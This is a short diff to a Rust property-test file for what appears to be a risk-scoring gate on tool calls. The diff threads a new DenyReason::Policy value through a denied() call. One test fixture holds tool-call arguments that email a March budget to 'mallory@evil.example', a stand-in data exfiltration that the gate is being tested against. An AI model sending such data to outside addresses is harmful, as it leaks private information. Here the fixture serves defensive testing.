@@ -5,7 +5,7 @@ use proptest::prelude::*;
 use super::{Talk, house};
 use crate::{
     config::RiskConfig,
-    domain::{Labels, Reason},
+    domain::{DenyReason, Labels, Reason},
     gate::risk::{
         found::Found,
         score::{Evidence, score},
@@ -83,7 +83,7 @@ fn last_score(before: &[Before]) -> u8 {
     for one in before {
         match one {
             Before::Step(tool, said) => drop(talk.step(tool, "{}", said)),
-            Before::Denied => talk.risk.denied(&talk.caller, talk.at),
+            Before::Denied => talk.risk.denied(&talk.caller, DenyReason::Policy, talk.at),
         }
     }
     let args = r#"{"to":"mallory@evil.example","body":"the budget of march, see evil.example"}"#;
